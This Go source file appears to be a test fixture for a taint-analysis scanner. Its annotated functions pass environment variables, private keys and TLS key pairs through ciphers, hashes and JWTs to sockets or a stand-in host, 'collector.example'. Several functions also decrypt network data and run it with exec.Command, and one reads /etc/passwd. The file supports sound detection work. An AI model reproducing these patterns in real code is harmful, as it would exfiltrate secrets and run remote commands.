// Ciphers, digests, signatures and keys: crypto/*, golang.org/x/crypto, openpgp, age, JWT.
package models

import (
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/subtle"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"hash"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"

	"filippo.io/age"
	"github.com/golang-jwt/jwt/v5"
	"golang.org/x/crypto/nacl/box"
	"golang.org/x/crypto/nacl/secretbox"
	"golang.org/x/crypto/pbkdf2"
)

const U = "https://collector.example/u?"

func digest(c net.Conn) {
	sum := sha256.Sum256([]byte(os.Getenv("T"))) //~ ok
	c.Write(sum[:]) //~ ok
}

func digestMade(c net.Conn) {
	h := sha256.New() //~ ok
	h.Write([]byte(os.Getenv("T"))) //~ ok
	c.Write(h.Sum(nil)) //~ ok
}

func digestWritten(h hash.Hash, c net.Conn) {
	h.Write([]byte(os.Getenv("T"))) //~ ok
	http.Get(U + strconv.Itoa(h.BlockSize())) //~ ok
}

func digestBehind(h hash.Hash, c net.Conn) {
	c.Write(h.Sum([]byte(os.Getenv("T")))) //~ source(ENVIRONMENT) f4, sink(egress.socket) f4, finding(traced) f4
}

func digestOfFile(h hash.Hash, c net.Conn) {
	f, _ := os.Open("/etc/passwd")
	io.Copy(h, f)
	c.Write(h.Sum(nil)) //~ ok
}

func compared() {
	same := subtle.ConstantTimeCompare([]byte(os.Getenv("T")), []byte("x")) //~ ok
	http.Get(U + strconv.Itoa(same)) //~ ok
}

func blockCipher(b []byte, c net.Conn) {
	block, _ := aes.NewCipher([]byte("0123456789abcdef")) //~ capability(CRYPTO)
	block.Encrypt(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f7
	c.Write(b) //~ sink(egress.socket) f7, finding(traced) f7
}

func blockKey(b []byte, c net.Conn) {
	block, _ := aes.NewCipher([]byte(os.Getenv("KEY"))) //~ ok
	block.Encrypt(b, []byte("ping"))
	c.Write(b) //~ ok
}

func blockEncrypted(block cipher.Block, b []byte, c net.Conn) {
	block.Encrypt(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f9
	c.Write(b) //~ sink(egress.socket) f9, finding(traced) f9
}

func blockEncryptedConstant(block cipher.Block, b []byte, c net.Conn) {
	block.Encrypt(b, []byte("ping")) //~ ok
	c.Write(b) //~ ok
}

func blockDecrypted(block cipher.Block, b []byte, c net.Conn) {
	block.Decrypt(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f11
	c.Write(b) //~ sink(egress.socket) f11, finding(traced) f11
}

func blockDecryptedConstant(block cipher.Block, b []byte, c net.Conn) {
	block.Decrypt(b, []byte("ping")) //~ ok
	c.Write(b) //~ ok
}

func stream(block cipher.Block, b []byte, c net.Conn) {
	cipher.NewCTR(block, make([]byte, 16)).XORKeyStream(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f13, capability(CRYPTO)
	c.Write(b) //~ sink(egress.socket) f13, finding(traced) f13
}

func streamConstant(block cipher.Block, b []byte, c net.Conn) {
	cipher.NewCTR(block, make([]byte, 16)).XORKeyStream(b, []byte("ping")) //~ ok
	c.Write(b) //~ ok
}

func streamed(s cipher.Stream, b []byte, c net.Conn) {
	s.XORKeyStream(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f15
	c.Write(b) //~ sink(egress.socket) f15, finding(traced) f15
}

func streamedConstant(s cipher.Stream, b []byte, c net.Conn) {
	s.XORKeyStream(b, []byte("ping")) //~ ok
	c.Write(b) //~ ok
}

func sealer(block cipher.Block, c net.Conn) {
	gcm, _ := cipher.NewGCM(block) //~ capability(CRYPTO)
	c.Write(gcm.Seal(nil, make([]byte, 12), []byte(os.Getenv("T")), nil)) //~ source(ENVIRONMENT) f17, sink(egress.socket) f17, finding(traced) f17
}

func sealerConstant(block cipher.Block, c net.Conn) {
	gcm, _ := cipher.NewGCM(block) //~ ok
	c.Write(gcm.Seal(nil, make([]byte, 12), []byte("ping"), nil)) //~ ok
}

func sealed(gcm cipher.AEAD, c net.Conn) {
	b := gcm.Seal(nil, make([]byte, 12), []byte(os.Getenv("T")), nil) //~ source(ENVIRONMENT) f19
	c.Write(b) //~ sink(egress.socket) f19, finding(traced) f19
}

func sealedConstant(gcm cipher.AEAD, c net.Conn) {
	b := gcm.Seal(nil, make([]byte, 12), []byte("ping"), []byte(os.Getenv("T"))) //~ ok
	c.Write(b) //~ ok
}

func unsealed(gcm cipher.AEAD) {
	response, _ := http.Get(U) //~ source(NETWORK) f21
	b, _ := io.ReadAll(response.Body)
	plain, _ := gcm.Open(nil, b[:12], b[12:], nil)
	exec.Command(string(plain)).Run() //~ sink(exec.command) f21, finding(traced) f21
}

func unsealedConstant(gcm cipher.AEAD) {
	plain, _ := gcm.Open(nil, make([]byte, 12), []byte("ping"), nil) //~ ok
	exec.Command(string(plain)).Run() //~ ok
}

func nonceSize(gcm cipher.AEAD, c net.Conn) {
	gcm = otherCipher(os.Getenv("T"))
	http.Get(U + strconv.Itoa(gcm.NonceSize())) //~ ok
}

func forPublicKey(key *rsa.PublicKey, c net.Conn) {
	b, _ := rsa.EncryptOAEP(sha256.New(), rand.Reader, key, []byte(os.Getenv("T")), nil) //~ source(ENVIRONMENT) f24, capability(CRYPTO)
	c.Write(b) //~ sink(egress.socket) f24, finding(traced) f24
}

func forPublicKeyConstant(key *rsa.PublicKey, c net.Conn) {
	b, _ := rsa.EncryptOAEP(sha256.New(), rand.Reader, key, []byte("ping"), nil) //~ ok
	c.Write(b) //~ ok
}

func forPublicKeyOld(key *rsa.PublicKey, c net.Conn) {
	b, _ := rsa.EncryptPKCS1v15(rand.Reader, key, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f26, capability(CRYPTO)
	c.Write(b) //~ sink(egress.socket) f26, finding(traced) f26
}

func forPublicKeyOldConstant(key *rsa.PublicKey, c net.Conn) {
	b, _ := rsa.EncryptPKCS1v15(rand.Reader, key, []byte("ping")) //~ ok
	c.Write(b) //~ ok
}

func withPrivateKey(key *rsa.PrivateKey) {
	response, _ := http.Get(U) //~ source(NETWORK) f28
	b, _ := io.ReadAll(response.Body)
	plain, _ := rsa.DecryptOAEP(sha256.New(), rand.Reader, key, b, nil)
	exec.Command(string(plain)).Run() //~ sink(exec.command) f28, finding(traced) f28
}

func withPrivateKeyConstant(key *rsa.PrivateKey) {
	plain, _ := rsa.DecryptOAEP(sha256.New(), rand.Reader, key, []byte("ping"), nil) //~ ok
	exec.Command(string(plain)).Run() //~ ok
}

func signed(key ed25519.PrivateKey, c net.Conn) {
	c.Write(ed25519.Sign(key, []byte(os.Getenv("T")))) //~ ok
}

func boxed(nonce *[24]byte, key *[32]byte, c net.Conn) {
	c.Write(secretbox.Seal(nil, []byte(os.Getenv("T")), nonce, key)) //~ source(ENVIRONMENT) f31, sink(egress.socket) f31, finding(traced) f31, capability(CRYPTO)
}

func boxedConstant(nonce *[24]byte, key *[32]byte, c net.Conn) {
	c.Write(secretbox.Seal(nil, []byte("ping"), nonce, key)) //~ ok
}

func boxedFor(key *[32]byte, c net.Conn) {
	b, _ := box.SealAnonymous(nil, []byte(os.Getenv("T")), key, rand.Reader) //~ source(ENVIRONMENT) f33, capability(CRYPTO)
	c.Write(b) //~ sink(egress.socket) f33, finding(traced) f33
}

func boxedForConstant(key *[32]byte, c net.Conn) {
	b, _ := box.SealAnonymous(nil, []byte("ping"), key, rand.Reader) //~ ok
	c.Write(b) //~ ok
}

func unboxed(nonce *[24]byte, key *[32]byte) {
	response, _ := http.Get(U) //~ source(NETWORK) f35
	b, _ := io.ReadAll(response.Body)
	plain, _ := secretbox.Open(nil, b, nonce, key)
	exec.Command(string(plain)).Run() //~ sink(exec.command) f35, finding(traced) f35
}

func unboxedConstant(nonce *[24]byte, key *[32]byte) {
	plain, _ := secretbox.Open(nil, []byte("ping"), nonce, key) //~ ok
	exec.Command(string(plain)).Run() //~ ok
}

func ageEncrypted(recipient age.Recipient) {
	var b bytes.Buffer
	w, _ := age.Encrypt(&b, recipient) //~ capability(CRYPTO)
	io.WriteString(w, os.Getenv("T")) //~ source(ENVIRONMENT) f37
	http.Post(U, "", &b) //~ sink(egress.http) f37, finding(traced) f37
}

func ageConstant(recipient age.Recipient) {
	var b bytes.Buffer
	w, _ := age.Encrypt(&b, recipient) //~ ok
	io.WriteString(w, "ping")
	http.Post(U, "", &b) //~ ok
}

func derived(c net.Conn) {
	c.Write(pbkdf2.Key([]byte(os.Getenv("T")), nil, 4096, 32, sha256.New)) //~ ok
}

func privateKey(b []byte) {
	key, _ := x509.ParsePKCS8PrivateKey(b) //~ source(CREDENTIAL) f40, capability(CREDENTIALS)
	http.Get(U + fmt.Sprint(key)) //~ sink(egress.http) f40, finding(traced) f40
}

func privateKeyUnused(b []byte) {
	x509.ParsePKCS8PrivateKey(b) //~ ok
}

func marshalledKey(b []byte, c net.Conn) {
	key, _ := x509.ParsePKCS1PrivateKey(b) //~ source(CREDENTIAL) f42
	c.Write(x509.MarshalPKCS1PrivateKey(key)) //~ sink(egress.socket) f42, finding(traced) f42
}

func marshalledKeyUnused(key *rsa.PrivateKey, c net.Conn) {
	c.Write(x509.MarshalPKCS1PrivateKey(key)) //~ ok
}

func keyPair() {
	pair, _ := tls.LoadX509KeyPair("cert.pem", "key.pem") //~ source(CREDENTIAL) f44, capability(CREDENTIALS)
	http.Get(U + fmt.Sprint(pair.PrivateKey)) //~ sink(egress.http) f44, finding(traced) f44
}

func keyPairUnused() {
	tls.LoadX509KeyPair("cert.pem", "key.pem") //~ ok
}

func claims() {
	token := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"t": os.Getenv("T")}) //~ source(ENVIRONMENT) f46
	text, _ := token.SignedString([]byte("key"))
	http.Get(U + text) //~ sink(egress.http) f46, finding(traced) f46
}

func claimsConstant() {
	token := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"t": "a"}) //~ ok
	text, _ := token.SignedString([]byte("key"))
	http.Get(U + text) //~ ok
}

func signedClaims() {
	token := jwt.NewWithClaims(jwt.SigningMethodHS256, jwt.MapClaims{"t": os.Getenv("T")}) //~ source(ENVIRONMENT) f48
	text, _ := token.SignedString([]byte("key"))
	http.Get(U + text) //~ sink(egress.http) f48, finding(traced) f48
}

func signedWithSecret(token *jwt.Token) {
	text, _ := token.SignedString([]byte(os.Getenv("KEY"))) //~ ok
	http.Get(U + text) //~ ok
}
